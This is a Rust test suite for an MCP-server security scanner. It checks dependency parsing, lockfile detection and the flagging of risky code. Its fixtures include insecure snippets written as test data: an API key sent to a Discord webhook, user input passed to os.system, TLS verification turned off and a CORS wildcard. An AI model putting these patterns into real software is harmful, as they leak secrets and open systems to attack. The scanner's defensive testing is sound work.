//! From files to the model of a server.
use sentinel_mcp::deps::{
    dependency_entries, extract_quoted, npm_dependencies, npm_pinned, parse_npm, parse_pyproject,
    parse_requirements, py_dep, Dep,
};
use sentinel_mcp::files::{
    basename, enters_dir, interesting, is_js_ts, is_lockfile, is_non_shipped, is_source, lang_of,
    normal_path, size_fits, sort_files, RepoFile,
};
use sentinel_mcp::manifest::{choose_name, has_remotes, json_name, transport_from, transport_of};
use sentinel_mcp::model::{kind_count, AttrValue, Entity, FactModel};
use sentinel_mcp::repo::{analyzable, can_parse, decimal_text, model_summary, parse_repo, PARSER_VERSION};
use sentinel_mcp::scan::{binds_all_line, cors_wildcard_line};

fn f(path: &str, content: &str) -> RepoFile {
    RepoFile { path: path.into(), content: content.into() }
}

fn server(m: &FactModel) -> &Entity {
    m.entities
        .iter()
        .find(|e| e.attr("mcp_kind").and_then(|v| v.as_str()) == Some("server"))
        .unwrap()
}

fn flag(e: &Entity, key: &str) -> Option<bool> {
    e.attr(key).and_then(|v| v.as_bool())
}

// --- dependencies ----------------------------------------------------------

#[test]
fn npm_pins_classified() {
    assert!(npm_pinned("1.2.3"));
    assert!(!npm_pinned("^1.2.3"));
    assert!(!npm_pinned(">=0.27"));
    assert!(!npm_pinned("*"));
    assert!(!npm_pinned("latest"));
}

#[test]
fn npm_pins_at_the_edges() {
    assert!(npm_pinned("  1.2.3 "));
    assert!(npm_pinned("7"));
    assert!(!npm_pinned(""));
    assert!(!npm_pinned(".1"));
    assert!(!npm_pinned("1.2.x"));
}

#[test]
fn pyproject_ranges_are_unpinned() {
    let content = r#"
[project]
name = "il-eli-mcp"
dependencies = [
  "fastmcp>=0.2.0",
  "httpx>=0.27",
  "pandas==2.2.0",
]
"#;
    let deps = parse_pyproject(content, "pyproject.toml");
    assert_eq!(deps.len(), 3);
    let fast = deps.iter().find(|d| d.name == "fastmcp").unwrap();
    assert!(!fast.pinned);
    let pandas = deps.iter().find(|d| d.name == "pandas").unwrap();
    assert!(pandas.pinned);
}

#[test]
fn pyproject_edges() {
    assert_eq!(parse_pyproject("dependencies = [\"a==1\"]\n\"b\"", "p").len(), 1);
    assert!(parse_pyproject("[tool.poetry.dependencies]\nhttpx = \"^1\"\n", "p").is_empty());
    assert!(parse_pyproject("", "p").is_empty());
    let open = parse_pyproject("dependencies = [\n 'x>=1',\n 'y", "p");
    assert_eq!(open.len(), 2);
    assert_eq!(open[1].name, "y");
}

#[test]
fn pyproject_extras_do_not_end_the_list() {
    let deps = parse_pyproject(
        "[project]\ndependencies = [\n  \"httpx[socks]>=0.27\",\n  \"pandas==2.2.0\",\n]\nclassifiers = [\"x\"]\n",
        "pyproject.toml",
    );
    let names: Vec<&str> = deps.iter().map(|d| d.name.as_str()).collect();
    assert_eq!(names, vec!["httpx", "pandas"]);
    let pinned: Vec<bool> = deps.iter().map(|d| d.pinned).collect();
    assert_eq!(pinned, vec![false, true]);
    assert_eq!(parse_pyproject("dependencies = [\"a[x]\", \"b\"]\nother = [\"c\"]", "p").len(), 2);
}

#[test]
fn pyproject_lists_of_other_tables_do_not_count() {
    let src = "[tool.hatch.envs.default]\ndependencies = [\"pytest\"]\n\n[project]\nname = \"x\"\ndependencies = [\n  \"a>=1\", # not \"this]\"\n  'b==2',\n]\n";
    let names: Vec<String> = parse_pyproject(src, "p").into_iter().map(|d| d.name).collect();
    assert_eq!(names, vec!["a".to_string(), "b".to_string()]);
    assert!(parse_pyproject("[build-system]\ndependencies = [\"a\"]\n", "p").is_empty());
    assert!(parse_pyproject("[project]\noptional-dependencies = [\"a\"]\n", "p").is_empty());
}

#[test]
fn pyproject_rows_of_lists_begin_no_table() {
    let names = |src: &str| -> Vec<String> { parse_pyproject(src, "p").into_iter().map(|d| d.name).collect() };
    assert_eq!(names("[project]\nx = [\n  [\"a\", \"b\"],\n  [\"c\"]\n]\ndependencies = [\"d\"]\n"), vec!["d"]);
    assert_eq!(names("[project]\nx = [\n  [1],\n  [true]\n]\ndependencies = [\"d\"]\n"), vec!["d"]);
    assert_eq!(names("[project] # ours\ndependencies = [\"d\"]\n"), vec!["d"]);
    assert!(names("[[tool.x]]\ndependencies = [\"d\"]\n").is_empty());
    assert!(names("[tool.\"a.b\"]\ndependencies = [\"d\"]\n").is_empty());
}

#[test]
fn requirements_lines() {
    let deps = parse_requirements("# comment\n-r other.txt\n\nhttpx==0.27\n  flask>=2 \n", "requirements.txt");
    assert_eq!(
        deps,
        vec![
            Dep {
                name: "httpx".to_string(),
                spec: "httpx==0.27".to_string(),
                pinned: true,
                source_path: "requirements.txt".to_string(),
            },
            Dep {
                name: "flask".to_string(),
                spec: "flask>=2".to_string(),
                pinned: false,
                source_path: "requirements.txt".to_string(),
            },
        ]
    );
}

#[test]
fn requirement_names() {
    assert_eq!(py_dep("ruamel.yaml>=1"), ("ruamel.yaml".to_string(), false));
    assert_eq!(py_dep("x[y]==1"), ("x".to_string(), true));
    assert_eq!(py_dep("@bad").0, "");
}

#[test]
fn quoted_strings() {
    assert_eq!(extract_quoted("a \"b\" 'c' \"d"), vec!["b", "c", "d"]);
    assert_eq!(extract_quoted("\""), vec![""]);
    assert!(extract_quoted("none").is_empty());
}

#[test]
fn npm_entries_are_read_in_the_order_of_their_keys() {
    let json = r#"{ "dependencies": { "zod": "^3.0.0", "a": "1.0.0", "odd": 3 }, "devDependencies": { "x": "1" } }"#;
    assert_eq!(
        dependency_entries(json),
        vec![
            ("a".to_string(), Some("1.0.0".to_string())),
            ("odd".to_string(), None),
            ("zod".to_string(), Some("^3.0.0".to_string())),
        ]
    );
    assert!(dependency_entries("not json").is_empty());
    assert!(dependency_entries("{ \"dependencies\": [] }").is_empty());
    assert!(dependency_entries("{}").is_empty());
}

#[test]
fn npm_dependencies_follow_their_entries() {
    let deps = npm_dependencies(
        &vec![("a".to_string(), Some("1.0.0".to_string())), ("odd".to_string(), None)],
        "package.json",
    );
    assert_eq!(deps.len(), 2);
    assert!(deps[0].pinned && deps[0].spec == "1.0.0" && deps[0].source_path == "package.json");
    assert!(!deps[1].pinned && deps[1].spec.is_empty());
    assert_eq!(parse_npm("{ \"dependencies\": { \"a\": \"1.0.0\" } }", "p")[0].name, "a");
    assert!(parse_npm("{", "p").is_empty());
}

// --- manifests -------------------------------------------------------------

#[test]
fn transports() {
    assert_eq!(transport_of("{ \"remotes\": [ { \"url\": \"https://x\" } ] }"), Some("http"));
    assert_eq!(transport_of("{ \"remotes\": [] , \"t\": \"stdio\" }"), Some("stdio"));
    assert_eq!(transport_of("streamable-http, and not json"), Some("http"));
    assert_eq!(transport_of("{ \"type\": \"sse\" }"), Some("http"));
    assert_eq!(transport_of("{}"), None);
    assert_eq!(transport_from(true, "\"stdio\""), Some("http"));
    assert_eq!(transport_from(false, "\"stdio\""), Some("stdio"));
    assert!(has_remotes("{ \"remotes\": [1] }") && !has_remotes("{ \"remotes\": 1 }") && !has_remotes("["));
}

#[test]
fn names_of_servers() {
    assert_eq!(json_name("{ \"name\": \"x\" }"), Some("x".to_string()));
    assert_eq!(json_name("{ \"name\": 1 }"), None);
    assert_eq!(json_name("nope"), None);
    let some = |s: &str| Some(s.to_string());
    assert_eq!(choose_name(&vec![None, some("p")], &vec![some("s")]), some("p"));
    assert_eq!(choose_name(&vec![None], &vec![None, some("s")]), some("s"));
    assert_eq!(choose_name(&Vec::new(), &Vec::new()), None);
}

#[test]
fn transport_and_lockfile_detected() {
    let files = vec![
        f("server.json", r#"{ "name": "x", "packages": [ { "transport": { "type": "stdio" } } ] }"#),
        f("pyproject.toml", "[project]\nname=\"x\"\ndependencies = [\"httpx>=0.27\"]\n"),
    ];
    let m = parse_repo(&files);
    let sv = server(&m);
    assert_eq!(sv.attr("transport").and_then(|v| v.as_str()), Some("stdio"));
    assert_eq!(sv.attr("has_lockfile").and_then(|v| v.as_bool()), Some(false));
    assert_eq!(kind_count(&m, "dependency"), 1);
}

#[test]
fn lockfile_presence_flips_flag() {
    let files = vec![
        f("package.json", r#"{ "name": "x", "dependencies": { "zod": "^3.0.0" } }"#),
        f("package-lock.json", "{}"),
    ];
    let m = parse_repo(&files);
    assert_eq!(server(&m).attr("has_lockfile").and_then(|v| v.as_bool()), Some(true));
    let dep = m.entities.iter().find(|e| e.id == "dep:zod").unwrap();
    assert_eq!(dep.attr("pinned").and_then(|v| v.as_bool()), Some(false));
}

#[test]
fn dependencies_are_listed_once() {
    let files = vec![
        f("a/requirements.txt", "httpx==1\n"),
        f("b/requirements.txt", "httpx>=2\nflask\n"),
    ];
    let m = parse_repo(&files);
    assert_eq!(kind_count(&m, "dependency"), 2);
    let dep = m.entities.iter().find(|e| e.id == "dep:httpx").unwrap();
    assert_eq!(flag(dep, "pinned"), Some(true), "the first manifest wins");
    assert_eq!(dep.path, "a/requirements.txt");
}

#[test]
fn missing_lockfile_is_located() {
    let files = vec![f("pyproject.toml", "[project]\nname=\"x\"\ndependencies = [\"httpx>=0.27\"]\n")];
    let m = parse_repo(&files);
    let site = m.entities.iter().find(|e| e.id == "site:no-lockfile").unwrap();
    assert_eq!(site.path, "pyproject.toml");
    assert_eq!(site.line, Some(3));
    let none = parse_repo(&[f("requirements.txt", "httpx\n")]);
    let site = none.entities.iter().find(|e| e.id == "site:no-lockfile").unwrap();
    assert_eq!(site.line, None);
}

// --- signals ---------------------------------------------------------------

#[test]
fn bind_detection_ignores_host_comparisons() {
    assert!(binds_all_line("DEFAULT_HOST = \"0.0.0.0\""));
    assert!(binds_all_line("app.run(host='0.0.0.0', port=8000)"));
    assert!(binds_all_line("srv.listen(3000, \"0.0.0.0\")"));
    assert!(binds_all_line("    default=\"0.0.0.0\","));
    assert!(!binds_all_line("        || bare_host == \"0.0.0.0\""));
    assert!(!binds_all_line("assert_eq!(ensure_url_scheme(\"0.0.0.0:3000\"), x)"));
    assert!(!binds_all_line("a line with no address"));
    assert!(!binds_all_line("if \"0.0.0.0\" == host:"));
    assert!(!binds_all_line("if '0.0.0.0' != host:"));
}

#[test]
fn cors_wildcards() {
    assert!(cors_wildcard_line("allow_origins=[\"*\"]"));
    assert!(cors_wildcard_line("cors({ origin: '*' })"));
    assert!(cors_wildcard_line("res.set('Access-Control-Allow-Origin', '*')"));
    assert!(!cors_wildcard_line("res.set('Access-Control-Allow-Origin', host)"));
    assert!(!cors_wildcard_line("a * b"));
}

#[test]
fn signals_are_located() {
    let files = vec![
        f("README.md", "host = \"0.0.0.0\"\n"),
        f("src/app.py", "import x\napp.run(host=\"0.0.0.0\")\nrequests.get(u, verify=False)\nallow_origins=[\"*\"]\n"),
    ];
    let m = parse_repo(&files);
    let at = |id: &str| {
        let e = m.entities.iter().find(|e| e.id == id).unwrap();
        (e.path.clone(), e.line)
    };
    assert_eq!(at("site:bind-all-interfaces"), ("src/app.py".to_string(), Some(2)));
    assert_eq!(at("site:tls-verify-disabled"), ("src/app.py".to_string(), Some(3)));
    assert_eq!(at("site:cors-wildcard"), ("src/app.py".to_string(), Some(4)));
    assert_eq!(flag(server(&m), "binds_all_interfaces"), Some(true));
    assert_eq!(flag(server(&m), "has_auth"), Some(false));
    assert_eq!(flag(server(&m), "tls_verify_disabled"), Some(true));
    let guarded = parse_repo(&[f("a.py", "@login_required\n")]);
    assert_eq!(flag(server(&guarded), "has_auth"), Some(true));
    assert!(server(&guarded).attr("tls_verify_disabled").is_none());
}

#[test]
fn read_only_annotations() {
    let ro = |src: &str| flag(server(&parse_repo(&[f("a.py", src)])), "all_tools_read_only");
    assert_eq!(ro("readOnlyHint=True"), Some(true));
    assert_eq!(ro("readOnlyHint=True\ndestructiveHint=True"), Some(false));
    assert_eq!(ro("x = 1"), None);
}

#[test]
fn write_annotations_without_blanks() {
    let ro = |src: &str| flag(server(&parse_repo(&[f("a.ts", src)])), "all_tools_read_only");
    assert_eq!(ro("x({readOnlyHint:true}); y({readOnlyHint:false});"), Some(false));
    assert_eq!(ro("x({readOnlyHint:true}); y({destructiveHint:true});"), Some(false));
    assert_eq!(ro("x({readOnlyHint: true}); y({readOnlyHint: false});"), Some(false));
    assert_eq!(ro("x({readOnlyHint:true}); y({readOnlyHint:true});"), Some(true));
}

#[test]
fn leaks_are_located_across_languages() {
    let js = "const key = process.env.API_KEY;\nfetch(\"https://discord.com/api/webhooks/1\", { body: key });\n";
    let m = parse_repo(&[f("web/leak.ts", js)]);
    let site = m.entities.iter().find(|e| e.id == "site:secret-egress").unwrap();
    assert_eq!((site.path.as_str(), site.line), ("web/leak.ts", Some(2)));
    assert_eq!(flag(server(&m), "secret_source_to_egress"), Some(true));
}

// --- files -----------------------------------------------------------------

#[test]
fn paths_and_kinds_of_files() {
    assert_eq!(basename("a/b\\c.py"), "c.py");
    assert_eq!(basename("c.py"), "c.py");
    assert_eq!(basename("a/"), "");
    assert!(is_source("x/y.kt") && !is_source("x/y.md") && !is_source("x.jsx"));
    assert!(is_js_ts("x.jsx") && is_js_ts("x.mjs") && !is_js_ts("x.py"));
    assert_eq!(lang_of("a.tsx"), Some("TypeScript"));
    assert_eq!(lang_of("a.cjs"), Some("JavaScript"));
    assert_eq!(lang_of("a.txt"), None);
    assert!(is_lockfile("x/uv.lock") && !is_lockfile("uv.lock/x"));
    assert!(is_non_shipped("pkg/tests/a.py") && is_non_shipped("docs\\a.py") && !is_non_shipped("testing.py"));
}

#[test]
fn what_the_walk_reads() {
    assert!(interesting("package.json") && interesting("go.mod") && interesting("yarn.lock") && interesting("a.rs"));
    assert!(!interesting("README.md"));
    assert!(enters_dir("src") && !enters_dir("node_modules") && !enters_dir(".git"));
    assert!(size_fits(Some(512 * 1024)) && !size_fits(Some(512 * 1024 + 1)) && !size_fits(None));
    assert_eq!(normal_path("a\\b/c"), "a/b/c");
}

#[test]
fn files_are_sorted_by_path() {
    let files = vec![f("b", "1"), f("a/z", "2"), f("a", "3"), f("b", "4"), f("B", "5")];
    let sorted: Vec<(String, String)> =
        sort_files(&files).into_iter().map(|x| (x.path, x.content)).collect();
    let want = [("B", "5"), ("a", "3"), ("a/z", "2"), ("b", "1"), ("b", "4")];
    let want: Vec<(String, String)> = want.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
    assert_eq!(sorted, want);
}

// --- the model -------------------------------------------------------------

#[test]
fn non_shipped_dirs_excluded_from_tools() {
    let files = vec![
        f("package.json", r#"{ "name": "prod", "dependencies": { "@modelcontextprotocol/sdk": "^1.0.0" } }"#),
        f(
            "examples/mcp-wiki/server.py",
            "@mcp.tool()\ndef read_wikipedia_article(url: str):\n    return requests.get(url)\n",
        ),
    ];
    let m = parse_repo(&files);
    assert_eq!(kind_count(&m, "tool"), 0, "examples/ tools must be excluded from the grade");
    assert!(!analyzable(&m), "an MCP repo with only example tools must be withheld, not graded");
}

#[test]
fn non_shipped_files_do_not_change_the_model() {
    let shipped = vec![f("src/a.py", "@mcp.tool()\ndef a(x):\n    return x\n"), f("server.json", "{}")];
    let mut all = vec![f("tests/server.json", "{ \"name\": \"other\" }")];
    all.extend(shipped.iter().cloned());
    all.push(f("docs/uv.lock", ""));
    assert_eq!(parse_repo(&all), parse_repo(&shipped));
}

#[test]
fn parse_is_deterministic() {
    let files = vec![f("pyproject.toml", "[project]\nname=\"x\"\ndependencies=[\"a>=1\",\"b==2\"]\n")];
    assert_eq!(parse_repo(&files), parse_repo(&files));
}

#[test]
fn digest_input_ignores_the_order_of_files() {
    let a = parse_repo(&[f("b.py", "2"), f("a.py", "1")]);
    let b = parse_repo(&[f("a.py", "1"), f("b.py", "2")]);
    assert_eq!(a.source.digest_input, b.source.digest_input);
    assert_eq!(a.source.digest_input, "a.py\u{0}1\u{1}b.py\u{0}2");
    assert_eq!(a.source.kind, "mcp_server");
    assert_eq!(a.source.parser_version, PARSER_VERSION);
    assert_eq!(a.schema_version, "0");
}

#[test]
fn server_facts_ignore_the_order_of_files() {
    let mut files = vec![
        f("z.ts", "export {}"),
        f("a.py", "import os\n"),
        f("b.py", "x = 1\n"),
        f("requirements.txt", "fastmcp\n"),
        f("uv.lock", ""),
        f("main.go", "package main\n"),
    ];
    let a = parse_repo(&files);
    files.reverse();
    let b = parse_repo(&files);
    for key in ["has_lockfile", "is_mcp", "languages"] {
        assert_eq!(server(&a).attr(key), server(&b).attr(key));
    }
    assert_eq!(flag(server(&a), "has_lockfile"), Some(true));
    assert_eq!(flag(server(&a), "is_mcp"), Some(true));
    let listed = vec!["Go".to_string(), "Python".to_string(), "TypeScript".to_string()];
    assert_eq!(server(&a).attr("languages"), Some(&AttrValue::List(listed)));
}

#[test]
fn tools_of_all_files_are_listed_once() {
    let files = vec![
        f("a.ts", "server.tool(\"shared\", async ({ url }) => fetch(url));\nserver.tool(\"only_js\", async (x) => x);\n"),
        f("b.py", "@mcp.tool()\ndef shared(cmd: str):\n    os.system(cmd)\n"),
    ];
    let m = parse_repo(&files);
    let shared: Vec<&Entity> = m.entities.iter().filter(|e| e.id == "tool:shared").collect();
    assert_eq!(shared.len(), 1);
    assert_eq!(shared[0].path, "b.py", "Python comes first");
    assert_eq!(shared[0].line, Some(2));
    assert_eq!(flag(shared[0], "shell_exec_from_input"), Some(true));
    assert!(shared[0].attr("ssrf_url_from_input").is_none());
    assert_eq!(kind_count(&m, "tool"), 2);
    assert!(matches!(server(&m).attr("tool_count"), Some(AttrValue::Int(2))));
}

#[test]
fn server_identity() {
    let m = parse_repo(&[
        f("server.json", "{ \"name\": \"from-server\" }"),
        f("package.json", "{ \"name\": \"from-package\" }"),
    ]);
    assert_eq!(server(&m).id, "mcp_server:from-package");
    assert_eq!(server(&m).path, "server.json");
    let bare = parse_repo(&[]);
    assert_eq!(server(&bare).id, "mcp_server:server");
    assert_eq!(server(&bare).path, ".");
    assert_eq!(server(&bare).attr("transport").and_then(|v| v.as_str()), Some("unknown"));
    assert!(analyzable(&bare), "no MCP server, so nothing is withheld");
}

#[test]
fn mcp_servers_are_recognised() {
    let is_mcp = |files: &[RepoFile]| flag(server(&parse_repo(files)), "is_mcp");
    assert_eq!(is_mcp(&[f("server.json", "")]), Some(true));
    assert_eq!(is_mcp(&[f("requirements.txt", "FastMCP\n")]), Some(true));
    assert_eq!(is_mcp(&[f("a.py", "from mcp import x\n")]), Some(true));
    assert_eq!(is_mcp(&[f("a.py", "import os\n")]), Some(false));
    assert_eq!(is_mcp(&[f("a.md", "from mcp import x\n")]), Some(false));
}

#[test]
fn summary_line() {
    let m = parse_repo(&[
        f("server.json", "{ \"t\": \"stdio\" }"),
        f("b.ts", ""),
        f("a.py", "@mcp.tool()\ndef a(x):\n    return x\n"),
        f("requirements.txt", "httpx\nflask\n"),
    ]);
    assert_eq!(model_summary(&m), "transport=stdio · tools=1 · deps=2 · langs=[Python,TypeScript]");
    assert_eq!(model_summary(&parse_repo(&[])), "transport=unknown · tools=0 · deps=0 · langs=[]");
}

#[test]
fn numbers_in_decimal() {
    let text = |n: usize| decimal_text(n).into_iter().collect::<String>();
    assert_eq!(text(0), "0");
    assert_eq!(text(9), "9");
    assert_eq!(text(10), "10");
    assert_eq!(text(40960), "40960");
}

#[test]
fn parsing_is_possible() {
    assert!(can_parse(&[f("a.ts", "const x = 1;"), f("b.py", "é")]));
}

#[test]
fn attributes_are_read_by_kind() {
    let e = Entity {
        id: "e".to_string(),
        attributes: vec![
            ("a".to_string(), AttrValue::Str("x".to_string())),
            ("a".to_string(), AttrValue::Bool(true)),
            ("b".to_string(), AttrValue::Bool(true)),
            ("c".to_string(), AttrValue::Int(1)),
        ],
        path: String::new(),
        line: None,
    };
    assert_eq!(e.text("a"), Some("x"), "the first value counts");
    assert!(!e.flag("a") && e.flag("b") && !e.flag("c") && !e.flag("d"));
    assert!(e.attr("d").is_none());
    assert_eq!(e.attr("c").and_then(|v| v.as_str()), None);
}
